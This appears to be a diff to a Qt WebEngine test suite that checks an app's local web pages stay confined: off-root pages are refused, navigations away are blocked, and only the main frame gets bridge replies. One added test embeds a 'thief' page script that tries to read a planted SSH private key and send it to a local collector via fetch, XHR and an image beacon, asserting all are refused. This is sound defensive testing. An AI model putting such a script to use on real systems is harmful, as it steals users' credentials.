@@ -8,6 +8,7 @@
 #include <QJsonObject>
 #include <QPointer>
 #include <QSignalSpy>
+#include <QTcpServer>
 #include <QTemporaryDir>
 #include <QTest>
 #include <QWebEngineScriptCollection>
@@ -70,6 +71,18 @@ public:
     QStringList destinations;
 };
 
+// Writes a page under the page root (a local page) and gives its address.
+QUrl writeLocalPage(const QString &relative, const QByteArray &html)
+{
+    const QString path = AppPaths::pageFolder() + QLatin1Char('/') + relative;
+    QDir().mkpath(QFileInfo(path).absolutePath());
+    QFile file(path);
+    if (!file.open(QIODevice::WriteOnly))
+        return {};
+    file.write(html);
+    return QUrl::fromLocalFile(path);
+}
+
 class WebViewsTest : public ::testing::Test
 {
 protected:
@@ -116,6 +129,8 @@ TEST_F(WebViewsTest, ALocalPageAsksBeforeTheChannelIsUpAndGetsItsAnswerButItsLin
     screen.json = QJsonObject{{QStringLiteral("needBack"), true}};
     QSignalSpy started(&screen, &NBBaseWebViewController::pageLoadStarted);
     QSignalSpy loads(screen.page(), &QWebEnginePage::loadFinished);
+    // Asked for its page before it was loaded: still one web view.
+    EXPECT_EQ(screen.findChildren<QWebEngineView *>().size(), 1);
     window.show();
     window.setContentViewController(shown);
     ASSERT_TRUE(started.wait(20000));
@@ -186,7 +201,7 @@ TEST_F(WebViewsTest, TheShippedPurchasePageReadsTheProductsFromTheServiceThrough
     EXPECT_EQ(evaluate(page, QStringLiteral("document.getElementById('back').hidden")).toBool(), true);
 }
 
-TEST_F(WebViewsTest, APageFromElsewhereGetsNothing)
+TEST_F(WebViewsTest, APageFromElsewhereIsNeitherShownNorAnswered)
 {
     // The same page, but from a folder that is neither the page root nor the resources.
     QTemporaryDir elsewhere;
@@ -205,22 +220,11 @@ TEST_F(WebViewsTest, APageFromElsewhereGetsNothing)
     view.show();
     page->load(QUrl::fromLocalFile(file.fileName()));
 
-    // The message arrives and is dropped; a signed request from the same page too.
-    ASSERT_TRUE(QTest::qWaitFor([&] { return log.contains(QStringLiteral("is not from a local page; dropped")); }, 30000));
-    evaluate(page, QStringLiteral(
-        "window.webkit.messageHandlers.encryptString.postMessage(JSON.stringify({id: 'x', value: {url: '/api/client/x'}}))"));
-    ASSERT_TRUE(QTest::qWaitFor([&] {
-        return log.messages().filter(QStringLiteral("is not from a local page; dropped")).size() >= 2;
-    }, 20000));
-    // And a page that calls the channel object itself, past the shim, with a name of its own.
-    evaluate(page, QStringLiteral("new QWebChannel(qt.webChannelTransport, function (c) {"
-                                   " c.objects.nativeBridge.postMessage('getUserInfo', ''); })"));
-    ASSERT_TRUE(QTest::qWaitFor([&] {
-        return log.messages().filter(QStringLiteral("is not from a local page; dropped")).size() >= 3;
-    }, 20000));
-    QCoreApplication::processEvents();
+    ASSERT_TRUE(QTest::qWaitFor([&] { return log.contains(QStringLiteral("refused: not a local page")); }, 30000));
+    QTest::qWait(300);
+    EXPECT_NE(page->url(), QUrl::fromLocalFile(file.fileName()));
+    EXPECT_TRUE(page->answeringUrl().isEmpty());
     EXPECT_EQ(replies.count(), 0);
-    EXPECT_FALSE(evaluate(page, QStringLiteral("!!window.userInfoReply || !!window.encryptReply")).toBool());
 }
 
 TEST_F(WebViewsTest, NoticePopupClosesOnceTakesDestinationsAndReachesTheUpgradeWindow)
@@ -332,6 +336,161 @@ TEST_F(WebViewsTest, TheOlderPageBridgeCarriesMessagesBothWays)
     ASSERT_TRUE(waitInPage(page, QStringLiteral("window.nativeAnswer")));
     EXPECT_EQ(evaluate(page, QStringLiteral("window.nativeAnswer.text")).toString(), payload.value("text").toString());
     EXPECT_EQ(evaluate(page, QStringLiteral("window.pageGot.text")).toString(), payload.value("text").toString());
+
+    // The page's own delegate has its say over the other navigations while it lives.
+    const QUrl next = writeLocalPage(QStringLiteral("older/next.html"), "<!doctype html><p>next</p>");
+    auto owner = std::make_unique<QObject>();
+    QList<QUrl> asked;
+    bridge->setWebViewDelegate(owner.get(), [&](const QUrl &url, QWebEnginePage::NavigationType, bool isMainFrame) {
+        if (isMainFrame)
+            asked << url;
+        return std::optional<bool>(false);
+    });
+    const QUrl here = page->url();
+    evaluate(page, QStringLiteral("location.href = 'next.html'"));
+    ASSERT_TRUE(QTest::qWaitFor([&] { return !asked.isEmpty(); }, 20000));
+    EXPECT_EQ(asked.value(0), next);
+    QTest::qWait(200);
+    EXPECT_EQ(page->url(), here);
+    owner.reset();
+    QSignalSpy moved(page, &QWebEnginePage::loadFinished);
+    evaluate(page, QStringLiteral("location.href = 'next.html'"));
+    ASSERT_TRUE(QTest::qWaitFor([&] { return page->url() == next; }, 20000));
+    EXPECT_EQ(asked.size(), 1);
+}
+
+TEST_F(WebViewsTest, InAppLinksClickedInTheNoticeKeepTheirCaseAndANavigationAwayIsRefused)
+{
+    // The notice tries to send itself away once loaded; its links are in-app destinations.
+    const QUrl notice = writeLocalPage(QStringLiteral("notice-links/index.html"), R"(<!doctype html><html><body style="margin:0">
+        <a id="news" href="marlet://newsList" style="position:fixed;left:0;top:0;width:400px;height:500px">news</a>
+        <a id="buy" href="marlet://linkBuy" style="position:fixed;left:400px;top:0;width:400px;height:500px">buy</a>
+        <script>
+          window.post = function (name, body) { window.webkit.messageHandlers[name].postMessage(JSON.stringify(body)); };
+          window.addEventListener('load', function () { location.href = 'https://example.com/promo'; });
+        </script></body></html>)");
+    RecordingDelegate delegate;
+    QWidget window;
+    window.resize(800, 500);
+    QPointer<OOPopupWebView> popup = new OOPopupWebView(QRect(0, 0, 800, 500), QString(), &window);
+    popup->setDelegate(&delegate);
+    int closes = 0;
+    popup->closeBlock = [&] { ++closes; };
+    window.show();
+    QSignalSpy loaded(popup->page(), &QWebEnginePage::loadFinished);
+    popup->load(notice);
+    ASSERT_TRUE(loaded.wait(30000));
+    // The redirect was refused: the notice is still there, answered, and closable from its page.
+    ASSERT_TRUE(waitInPage(popup->page(), QStringLiteral("document.readyState === 'complete'")));
+    QTest::qWait(200);
+    ASSERT_FALSE(popup.isNull());
+    EXPECT_EQ(popup->page()->url(), notice);
+    EXPECT_EQ(popup->scriptPage()->answeringUrl(), notice);
+    EXPECT_TRUE(opened.isEmpty());
+
+    // A real click on the link: the destination as the page wrote it, then the popup closes.
+    QWidget *surface = popup->focusProxy();
+    ASSERT_NE(surface, nullptr);
+    QTest::mouseClick(surface, Qt::LeftButton, {}, QPoint(200, 250));
+    ASSERT_TRUE(QTest::qWaitFor([&] { return closes > 0; }, 20000));
+    EXPECT_EQ(delegate.destinations, QStringList{QStringLiteral("newsList")});
+    ASSERT_TRUE(QTest::qWaitFor([&] { return popup.isNull(); }, 20000));
+    EXPECT_EQ(closes, 1);
+    EXPECT_TRUE(desktopCatcher.urls.isEmpty());
+
+    // A notice whose page is not there leaves nothing over the window.
+    QPointer<OOPopupWebView> missing = new OOPopupWebView(QRect(0, 0, 800, 500), QString(), &window);
+    missing->closeBlock = [&] { ++closes; };
+    missing->load(QUrl::fromLocalFile(AppPaths::pageFolder() + QStringLiteral("/gone/gone.html")));
+    ASSERT_TRUE(QTest::qWaitFor([&] { return missing.isNull(); }, 30000));
+    EXPECT_EQ(closes, 2);
+}
+
+TEST_F(WebViewsTest, ALocalPageReadsOnlyItsOwnFilesAndTalksOnlyToTheService)
+{
+    // Something of the user's to steal, and a host of the page's choosing to send it to.
+    ASSERT_TRUE(QDir().mkpath(QDir::homePath() + QStringLiteral("/.ssh")));
+    QFile key(QDir::homePath() + QStringLiteral("/.ssh/id_ed25519"));
+    ASSERT_TRUE(key.open(QIODevice::WriteOnly));
+    key.write("PRIVATE KEY");
+    key.close();
+    QTcpServer collector;
+    ASSERT_TRUE(collector.listen(QHostAddress::LocalHost));
+    int connections = 0;
+    QObject::connect(&collector, &QTcpServer::newConnection, [&] { ++connections; });
+
+    writeLocalPage(QStringLiteral("thief/own.js"), "window.ownScript = true;");
+    const QString sshUrl = QUrl::fromLocalFile(key.fileName()).toString();
+    const QString collect = QStringLiteral("http://127.0.0.1:%1/collect").arg(collector.serverPort());
+    const QUrl page = writeLocalPage(QStringLiteral("thief/index.html"), QStringLiteral(R"(<!doctype html><html><body>
+        <script src="own.js"></script>
+        <script>
+          window.results = {};
+          function settle(name, promise) {
+            promise.then(function (r) { return r.text(); }).then(function (t) { window.results[name] = 'read ' + t; },
+                                                               function () { window.results[name] = 'refused'; });
+          }
+          settle('key', fetch('%1'));
+          settle('post', fetch('%2', {method: 'POST', body: 'stolen', mode: 'no-cors'}));
+          var xhr = new XMLHttpRequest();
+          xhr.onload = function () { window.results.xhr = 'read ' + xhr.responseText; };
+          xhr.onerror = function () { window.results.xhr = 'refused'; };
+          xhr.open('GET', '%1');
+          xhr.send();
+          var img = new Image();
+          img.onload = function () { window.results.img = 'loaded'; };
+          img.onerror = function () { window.results.img = 'refused'; };
+          img.src = '%2?k=stolen';
+        </script></body></html>)").arg(sshUrl, collect).toUtf8());
+
+    QWebEngineView view;
+    auto *scriptPage = new ScriptMessageWebPage(ScriptMessageRouter::HostKind::PageController, nullptr, &view);
+    view.setPage(scriptPage);
+    view.resize(400, 300);
+    view.show();
+    scriptPage->load(page);
+    ASSERT_TRUE(waitInPage(scriptPage, QStringLiteral("window.results.key && window.results.post && window.results.xhr && window.results.img")))
+        << evaluate(scriptPage, QStringLiteral("JSON.stringify(window.results)")).toString().toStdString();
+    EXPECT_TRUE(evaluate(scriptPage, QStringLiteral("window.ownScript === true")).toBool()) << "its own files still load";
+    EXPECT_EQ(evaluate(scriptPage, QStringLiteral("JSON.stringify(window.results)")).toString(),
+              QStringLiteral(R"({"key":"refused","post":"refused","xhr":"refused","img":"refused"})"));
+    QCoreApplication::processEvents();
+    EXPECT_EQ(connections, 0);
+}
+
+TEST_F(WebViewsTest, OnlyTheMainFrameOfALoadedLocalPageIsAnswered)
+{
+    // A frame inside the local page asks the channel itself, with an id it had to guess.
+    writeLocalPage(QStringLiteral("framed/frame.html"), R"(<!doctype html><html><body><script>
+        new QWebChannel(qt.webChannelTransport, function (c) { c.objects.nativeBridge.postMessage('getUserInfo', '', 'guess'); });
+      </script></body></html>)");
+    const QUrl page = writeLocalPage(QStringLiteral("framed/index.html"), R"(<!doctype html><html><body>
+        <iframe src="https://example.com/remote.html"></iframe><iframe src="frame.html"></iframe>
+        <script>
+          window.replies = 0;
+          window.__$$$_native_call_ios = { getUserInfoCallback: function () { window.replies++; } };
+        </script></body></html>)");
+
+    QWebEngineView view;
+    auto *scriptPage = new ScriptMessageWebPage(ScriptMessageRouter::HostKind::PageController, nullptr, &view);
+    QSignalSpy replies(scriptPage, &ScriptMessageWebPage::replyEvaluated);
+    view.setPage(scriptPage);
+    view.resize(400, 300);
+    view.show();
+    // A remote page first: the view does not go there, and nothing is answered for it.
+    scriptPage->load(QUrl(QStringLiteral("https://example.com/")));
+    QTest::qWait(300);
+    EXPECT_NE(scriptPage->url().scheme(), QStringLiteral("https"));
+    EXPECT_TRUE(scriptPage->answeringUrl().isEmpty());
+
+    QSignalSpy loaded(scriptPage, &QWebEnginePage::loadFinished);
+    scriptPage->load(page);
+    ASSERT_TRUE(QTest::qWaitFor([&] { return scriptPage->answeringUrl() == page; }, 30000));
+    evaluate(scriptPage, QStringLiteral("window.webkit.messageHandlers.getUserInfo.postMessage('')"));
+    ASSERT_TRUE(waitInPage(scriptPage, QStringLiteral("window.replies === 1")));
+    QTest::qWait(300);
+    EXPECT_EQ(replies.count(), 1) << "the frame's own call got nothing";
+    EXPECT_EQ(evaluate(scriptPage, QStringLiteral("window.replies")).toInt(), 1);
 }
 
 } // namespace
